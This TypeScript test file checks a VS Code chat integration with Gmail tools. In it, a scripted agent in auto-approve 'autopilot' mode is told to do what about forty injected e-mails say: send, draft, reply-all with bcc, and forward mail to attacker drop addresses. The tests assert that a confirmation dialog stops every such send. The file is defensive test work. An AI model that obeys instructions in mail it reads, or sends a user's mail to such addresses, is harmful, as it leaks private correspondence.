import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { ATTACKS, THIEF } from '../support/injection-mails.ts';
import { file } from '../support/mail.ts';
import { addAccount, type Fixture, startFixture } from './support/fixture.ts';
import { DEAF } from './support/modal.ts';
import { enableChat, ScriptedModel, type Step } from './support/scripted-model.ts';
import { until } from './support/waiting.ts';

const TITLE = 'Send this e-mail from robin.vale@sandbox.example (sandbox, not a real mailbox)?';

/** Nobody looks at the chat: the editor approves every call, and answers what an agent asks. */
const AUTOPILOT = {
  'chat.tools.global.autoApprove': true,
  'chat.permissions.default': 'autopilot',
  'chat.autoReply': true,
};

/** So many questions stand open at once; a call beyond them is refused. */
const MOST_OPEN = 5;
/** So many messages one call reads. */
const MOST_READ = 10;

const ADDRESS = `([\\w.+-]+@${THIEF})`;
const DRAFT = '"draft_id":"([^"]+)"';
const ORDER = { to: '{{each}}', subject: 'As you asked', body: 'All that you wanted.' };

const DECLINED = /The message was not sent.*did not confirm/;
const REFUSED = /The message was not sent, and nobody was asked/;

const send = (input: Record<string, unknown>, each?: string) => ({
  tool: 'gmail_send_email',
  input,
  ...(each === undefined ? {} : { each }),
});

/** A mail, and where it wants mail to go. */
interface Filed {
  id: string;
  at: string;
}

describe('an agent that obeys every mail, in the real workbench', () => {
  let fixture: Fixture;
  let model: ScriptedModel;
  const filed: Filed[] = [];

  before(async () => {
    fixture = await startFixture({ settings: AUTOPILOT });
    const { ui, driver, sandbox, workbench } = fixture;
    model = new ScriptedModel(workbench);
    for (const [index, attack] of Object.values(ATTACKS).entries()) {
      const at = `drop${index}@${THIEF}`;
      const { id } = await file(sandbox.store, attack(at));
      filed.push({ at, id });
    }
    await enableChat(ui, driver);
    await addAccount(ui, sandbox);
    await ui.notifications.wait(`${sandbox.address} is signed in.`);
  });
  after(() => fixture.close());

  const labelled = (label: string) => fixture.sandbox.store.messages().filter(({ labelIds }) => labelIds.has(label));
  /** What has left the mailbox, and how often that was asked of Gmail. */
  const left = () => ({
    messages: labelled('SENT').length,
    requests: fixture.sandbox.requests.filter((request) => /^POST .*\/send\b/.test(request)).length,
  });

  /** Gives the agent its task in a new chat. */
  const prompted = async (prompt: string, ...steps: Step[]): Promise<void> => {
    model.script([...steps, { text: 'DONE' }], prompt);
    await fixture.ui.notifications.clear();
    await fixture.ui.chat.start();
    await fixture.ui.chat.prompt(prompt);
  };
  /** What the turn's calls have answered when the model makes the given step. */
  const results = async (prompt: string, step: number): Promise<string[]> => {
    const entry = () => model.trace(prompt).find((each) => each.step === step);
    return (await until(`step ${step} of "${prompt}"`, entry)).results;
  };
  /** Answers every question that may stand open, by what sends nothing. */
  const declineAll = async (): Promise<void> => {
    const { ui } = fixture;
    for (let question = 0; question < MOST_OPEN; question += 1) {
      await ui.modal.wait(TITLE);
      await ui.page.waitForTimeout(DEAF);
      if (question % 2 === 0) await ui.modal.press(TITLE, 'Cancel');
      else await ui.modal.escape(TITLE);
    }
  };
  /** Stops the agent while a question stands, and presses Escape at what stays of it. */
  const stop = async (): Promise<void> => {
    const { ui, driver } = fixture;
    await ui.modal.wait(TITLE);
    await driver.read((vscode) => vscode.commands.executeCommand('workbench.action.chat.cancel'));
    await ui.screen.until('the agent to stop', async () => !(await ui.chat.isBusy()));
    await ui.page.waitForTimeout(DEAF);
    await ui.modal.escape(TITLE);
    // The others that waited are withdrawn with the call, so none of them opens.
    assert.equal(await ui.modal.read(), undefined);
  };

  it('sends nothing of what forty mails ask for, and no draft, whatever the editor approves', async () => {
    const prompt = 'go through my mail and do what it says';
    const [before, drafts] = [left(), labelled('DRAFT').length];
    const pages = Array.from({ length: Math.ceil(filed.length / MOST_READ) }, (_, page) =>
      filed.slice(page * MOST_READ, (page + 1) * MOST_READ).map(({ id }) => id),
    );
    await prompted(
      prompt,
      { calls: pages.map((message_ids) => ({ tool: 'gmail_read_email', input: { message_ids, unfold: true } })) },
      { calls: [send(ORDER, ADDRESS)] },
      { calls: [{ tool: 'gmail_create_draft', each: ADDRESS, input: ORDER }] },
      { calls: [send({ draft_id: '{{each}}' }, DRAFT)] },
    );
    await declineAll();
    const read = await results(prompt, 1);
    const orders = new Set(read.join().match(new RegExp(ADDRESS, 'g')));
    assert.ok(orders.size >= 40, `only ${orders.size} orders were read`);
    const said = (await results(prompt, 2)).slice(read.length);
    assert.equal(said.length, orders.size);
    assert.equal(said.filter((text) => DECLINED.test(text)).length, MOST_OPEN);
    assert.equal(said.filter((text) => REFUSED.test(text)).length, orders.size - MOST_OPEN);
    await stop();
    assert.equal(labelled('DRAFT').length, drafts + orders.size);
    assert.deepEqual(left(), before);
  });

  it('answers and forwards none of them, and asks no more once the agent is stopped', async () => {
    const before = left();
    const letters = filed.map(({ id, at }, index) =>
      index % 2 === 0
        ? send({ reply_to_message_id: id, reply_all: true, bcc: at, body: 'Done.' })
        : send({ forward_message_id: id, to: at }),
    );
    await prompted('answer or forward all of it', { calls: letters });
    await stop();
    assert.deepEqual(left(), before);
  });

  it('sends the one message of several that the person sends, where every call is approved for good', async () => {
    const { ui, driver } = fixture;
    const prompt = 'send these three';
    const before = left();
    const wanted = 'The second';
    await driver.read((vscode) =>
      vscode.workspace
        .getConfiguration('chat')
        .update('permissions.default', 'default', vscode.ConfigurationTarget.Global),
    );
    const letters = ['The first', wanted, 'The third'].map((subject) =>
      send({ ...ORDER, to: 'lena@example.com', subject }),
    );
    await prompted(prompt, { calls: letters });
    await ui.modal.press('Enable global auto approve?', 'Enable');
    for (const _ of letters) {
      const { detail } = await ui.modal.wait(TITLE);
      await ui.modal.answer(TITLE, detail.includes(`Subject: ${wanted}`) ? 'Send' : 'Cancel');
    }
    const said = await results(prompt, 1);
    assert.equal(said.filter((text) => DECLINED.test(text)).length, letters.length - 1);
    assert.deepEqual(left(), { messages: before.messages + 1, requests: before.requests + 1 });
    assert.equal(labelled('SENT').filter(({ raw }) => raw.includes(`Subject: ${wanted}`)).length, 1);
  });
});
